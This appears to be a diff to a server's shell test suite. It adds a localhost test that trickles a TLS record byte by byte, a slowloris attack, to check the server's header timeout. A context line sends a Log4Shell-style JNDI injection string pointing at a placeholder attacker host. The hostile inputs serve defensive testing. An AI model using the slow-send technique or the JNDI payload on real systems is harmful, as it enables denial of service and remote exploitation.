@@ -126,6 +126,44 @@ PY
 wait_events "$EV" '"reason":"handshake timeout"'
 ok "stalled handshake closed after ${el} ms, recorded"
 
+# ---- slowloris inside TLS: after the handshake, one record sent a byte at a
+# time never decrypts; the whole-message deadline must still cut it
+el=$(python3 - "$PH" <<'PY'
+import socket, ssl, sys, time
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+obj = ctx.wrap_bio(inc, out, server_hostname="slow.test")
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
+while True:
+    try:
+        obj.do_handshake()
+        break
+    except ssl.SSLWantReadError:
+        s.sendall(out.read())
+        inc.write(s.recv(65536))
+s.sendall(out.read())
+obj.write(b"GET /slow HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 200 + b"\r\n\r\n")
+rec = out.read()
+t = time.monotonic()
+s.settimeout(0.05)
+for b in rec:  # 0.1 s a byte: about 24 s for the whole record
+    try:
+        s.sendall(bytes([b]))
+        if s.recv(4096) == b"":
+            break
+    except socket.timeout:
+        pass
+    except OSError:
+        break
+    time.sleep(0.05)
+    if time.monotonic() - t > 8:
+        break
+print(int((time.monotonic() - t) * 1000))
+PY
+)
+[ "$el" -lt 4000 ] || fail "a TLS record trickled byte by byte held the connection ${el} ms (header_timeout 1s)"
+ok "a TLS record trickled byte by byte cut after ${el} ms"
+
 # ---- plaintext on a TLS port, TLS on a plaintext port ----------------------------------
 code=$(curl -s -g -o /dev/null -w '%{http_code}' "http://127.0.0.1:$PH/plain/\${jndi:dns://plain.attacker.test/p}") || true
 [ "$code" = 404 ] || fail "plaintext HTTP on the https port answered '$code', want 404"
